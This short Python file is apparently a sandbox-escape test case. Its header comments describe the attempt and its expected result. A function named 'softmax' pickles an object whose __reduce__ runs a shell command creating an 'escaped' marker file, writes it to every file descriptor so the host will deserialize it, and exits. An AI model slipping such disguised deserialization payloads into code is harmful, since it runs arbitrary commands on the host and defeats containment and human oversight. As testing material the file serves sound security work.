#: tries = "send a pickle that runs code when it is loaded"
#: reply = ["broke"]
#: why = "no reply"
import os
import pickle
import struct


class Code:
    def __reduce__(self):
        return os.system, ("touch @FOLDER@/escaped",)


def softmax(logits):
    data = pickle.dumps(Code())
    for descriptor in range(256):
        try:
            os.write(descriptor, struct.pack("<I", len(data)) + data)
        except OSError:
            pass
    os._exit(0)
